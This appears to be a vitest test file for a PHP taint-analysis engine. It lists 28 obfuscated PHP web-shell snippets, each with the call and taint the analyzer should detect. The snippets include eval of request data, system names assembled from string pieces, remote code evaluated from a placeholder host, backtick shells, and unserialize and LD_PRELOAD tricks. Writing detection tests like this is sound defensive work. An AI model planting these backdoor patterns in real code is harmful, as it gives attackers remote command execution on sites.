import { describe, expect, test } from 'vitest'
import { taintBits } from '../../../../src/engine/php/abstract.ts'
import type { Taint } from '../../../../src/engine/php/abstract.ts'
import type { CallFact } from '../../../../src/engine/php/callFact.ts'
import { php, record } from './recordRun.ts'

const { user, header, remote, self, hidden } = taintBits

/** One way to hide what a program runs, and the fact that must come out of it. */
interface MicroCase {
  readonly trick: string
  readonly code: string
  readonly kind: CallFact['kind']
  readonly name: string | null
  /** Taint that the first argument, or the computed name, must have. */
  readonly taint: Taint
}

const cases: readonly MicroCase[] = [
  {
    trick: 'comment before the bracket',
    code: `ev‧al/**/($_PO‧ST['hf_test']);`,
    kind: 'eval',
    name: 'eval',
    taint: user,
  },
  {
    trick: 'variable variable',
    code: `$b='_PO'.'ST'; $a='b'; $c=$$a; as‧sert(\${$c}['hf_test']);`,
    kind: 'function',
    name: 'assert',
    taint: user,
  },
  {
    trick: 'function of the request',
    code: `$_G‧ET['f']($_G‧ET['a']);`,
    kind: 'function',
    name: null,
    taint: user,
  },
  {
    trick: 'joined name',
    code: `('sy'.'stem')($_G‧ET['hf_test']);`,
    kind: 'function',
    name: 'system',
    taint: user,
  },
  {
    trick: 'spelled superglobal',
    code: `\${'_G'.'ET'}[1](\${'_G'.'ET'}[2]);`,
    kind: 'function',
    name: null,
    taint: user,
  },
  {
    trick: 'call_user_func',
    code: `call_user‧_func($_G‧ET['f'], $_G‧ET['hf_test']);`,
    kind: 'function',
    name: null,
    taint: user,
  },
  {
    trick: 'data behind __halt_compiler',
    code: `$f=fopen(__FILE__,'r'); fseek($f,__COMPILER_HALT_OFFSET__); ev‧al(stream_get_contents($f)); __halt_compiler();echo 'hf_test';`,
    kind: 'eval',
    name: 'eval',
    taint: self,
  },
  {
    trick: 'remote code',
    code: `ev‧al(file_get_contents('http://hf.test/x'));`,
    kind: 'eval',
    name: 'eval',
    taint: remote,
  },
  { trick: 'backticks', code: `echo \`$_G‧ET[1]\`;`, kind: 'shell', name: 'shell_exec', taint: user },
  {
    trick: 'cookie loop',
    code: `foreach($_COO‧KIE as $k=>$v) { $f=$k; $f($v); }`,
    kind: 'function',
    name: null,
    taint: user,
  },
  { trick: 'behind ||', code: `$x || ev‧al($_PO‧ST['hf_test']);`, kind: 'eval', name: 'eval', taint: user },
  {
    trick: 'heredoc',
    code: `$f = <<<A\nsys\nA;\n$f .= 'tem'; $f($_PO‧ST['hf_test']);`,
    kind: 'function',
    name: 'system',
    taint: user,
  },
  { trick: 'session', code: `ev‧al($_SESSION['hf_test']);`, kind: 'eval', name: 'eval', taint: hidden },
  {
    trick: 'goto chain',
    code: `goto b; a: ev‧al($x); goto c; b: $x=$_PO‧ST['hf_test']; goto a; c: ;`,
    kind: 'eval',
    name: 'eval',
    taint: user,
  },
  {
    trick: 'parameter by reference',
    code: `function m(&$y){ $y='sys'.'tem'; } m($f); $f($_G‧ET['hf_test']);`,
    kind: 'function',
    name: 'system',
    taint: user,
  },
  {
    trick: 'output callback',
    code: `ob_start('sys‧tem'); echo $_G‧ET['hf_test'];`,
    kind: 'echo',
    name: null,
    taint: user,
  },
  {
    trick: 'property set after new, destructor',
    code: `class A { public $f; function __destruct(){ ($this->f)($_G‧ET['hf_test']); } } $a=new A; $a->f='as'.'sert';`,
    kind: 'function',
    name: 'assert',
    taint: user,
  },
  {
    trick: 'alphabet made by ++',
    code: `$_=[].''; $_=$_[0]; $s='SYSTEM'; $a=$_; while($a!='S') $a++; $f=$a.'YSTEM'; $f($_G‧ET['hf_test']);`,
    kind: 'function',
    name: 'system',
    taint: user,
  },
  {
    trick: 'unserialize and a magic method',
    code: `class A { public $c; function __wakeup(){ ev‧al($this->c); } } unserialize($_COO‧KIE['hf_test']);`,
    kind: 'eval',
    name: 'eval',
    taint: user,
  },
  {
    trick: 'options of filter_var',
    code: `filter_var($_G‧ET['hf_test'], FILTER_CALLBACK, ['options'=>'sys'.'tem']);`,
    kind: 'function',
    name: 'system',
    taint: user,
  },
  {
    trick: 'generator',
    code: `function g(){ yield 'ass'; yield 'ert'; } $s=''; foreach(g() as $p) $s.=$p; $s($_PO‧ST['hf_test']);`,
    kind: 'function',
    name: 'assert',
    taint: user,
  },
  {
    trick: 'class constants',
    code: `class K { const F='sys'; const G=self::F.'tem'; } $f=K::G; $f($_G‧ET['hf_test']);`,
    kind: 'function',
    name: 'system',
    taint: user,
  },
  {
    trick: 'row of a database',
    code: `$r=mysqli_fetch_assoc($q); ev‧al($r['code']);`,
    kind: 'eval',
    name: 'eval',
    taint: hidden,
  },
  {
    trick: 'option of WordPress',
    code: `ev‧al(get_option('hf_test'));`,
    kind: 'eval',
    name: 'eval',
    taint: hidden,
  },
  {
    trick: 'image data',
    code: `$e=exif_read_data('hf_test.jpg'); ev‧al($e['Make']);`,
    kind: 'eval',
    name: 'eval',
    taint: hidden,
  },
  {
    trick: 'image that is included',
    code: `include 'hf_test.gif';`,
    kind: 'include',
    name: 'include',
    taint: 0,
  },
  {
    trick: 'object and method',
    code: `class X { function run($c){ sys‧tem($c); } } call_user‧_func([new X,'run'], $_G‧ET['hf_test']);`,
    kind: 'function',
    name: 'system',
    taint: user,
  },
  {
    trick: 'environment and mail',
    code: `putenv('LD_PRELOAD='.$_SER‧VER['HTTP_X']); mail('','','','');`,
    kind: 'function',
    name: 'putenv',
    taint: header,
  },
]

describe('tricks that hide what a program runs', () => {
  test.each(cases)('$trick', ({ code, kind, name, taint }) => {
    const { facts, limits } = record(php(code))
    const found = facts.filter((fact) => fact.kind === kind && fact.name === name)
    const taints = found.map(
      (fact) => (fact.args[0]?.taint ?? 0) | (name === null ? (fact.callee?.taint ?? 0) : 0),
    )
    expect(taints.some((one) => (one & taint) === taint)).toBe(true)
    expect(limits).toEqual([])
  })

  test('are all of research, and each is another one', () => {
    expect(new Set(cases.map((one) => one.trick)).size).toBe(28)
  })
})
